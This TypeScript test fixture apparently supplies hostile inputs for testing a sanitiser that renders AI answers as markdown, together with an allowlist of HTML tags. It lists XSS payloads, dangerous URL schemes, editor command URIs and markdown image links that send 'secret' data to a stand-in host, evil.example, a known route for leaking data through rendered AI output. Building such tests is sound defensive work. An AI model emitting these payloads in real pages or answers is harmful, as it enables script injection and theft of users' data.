/** Answers that try to reach out, to run, or to leave the subset. Each names the host it would reach. */
const link = (url: string) => `[click](${url})`;
const dangerous = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'command:workbench.action.terminal.new',
  'command%3Aworkbench.action.quit',
  'vscode://file/etc/passwd',
  'vscode-resource://evil.example/a',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'mailto:a@evil.example?body=secret',
  '//evil.example/x',
  'https://user:pass@evil.example/',
  'https:evil.example',
  'ftp://evil.example/',
];

export const hostile: readonly string[] = [
  ...dangerous.map(link),
  ...dangerous.map((url) => `!${link(url)}`),
  ...dangerous.map((url) => `<${url}>`),
  '![x](https://evil.example/?q=secret)',
  '[![x](https://evil.example/a.png)](https://evil.example/b)',
  '![x][r]\n\n[r]: https://evil.example/ref.png',
  '<img src=https://evil.example/x onerror=alert(1)>',
  '<script>fetch("https://evil.example")</script>',
  '<script src=https://evil.example/x.js></script>',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/y)}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<iframe src=https://evil.example></iframe>',
  '<object data=https://evil.example></object><embed src=https://evil.example>',
  '<svg onload=alert(1)><image href=https://evil.example/x /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form action=https://evil.example><input name=q><button>go</button></form>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<video src=https://evil.example autoplay></video><audio src=https://evil.example autoplay></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)" onmouseover=alert(1) style="position:fixed">x</a>',
  '<div id=root></div><div id=input></div><div data-row="x" class="composer">spoof</div>',
  '```html\n<img src=https://evil.example/x onerror=alert(1)>\n```',
  '```"><img/src=https://evil.example/x>\ncode\n```',
  '`<img src=https://evil.example/x>`',
  '$<img src=https://evil.example/x onerror=alert(1)>$',
  '| a |\n|---|\n| <img src=https://evil.example/x> ![y](https://evil.example/y) |',
  '# <img src=x onerror=alert(1)>\n\n> <script>alert(1)</script>',
  '[a](https://evil.example "t\\" onmouseover=alert(1)")',
  '![a"onerror=alert(1)](https://evil.example/x.png "b")',
  '\u202e[txt](https://evil.example)\u0000<script>',
];

/** Tags that may stand in an answer, in the page's own spelling. */
export const allowedInAnswer = new Set(
  'DIV P BR HR H3 H4 H5 H6 BLOCKQUOTE UL OL LI PRE CODE EM STRONG S A IMG TABLE THEAD TBODY TR TH TD SECTION SPAN BUTTON'.split(
    ' ',
  ),
);
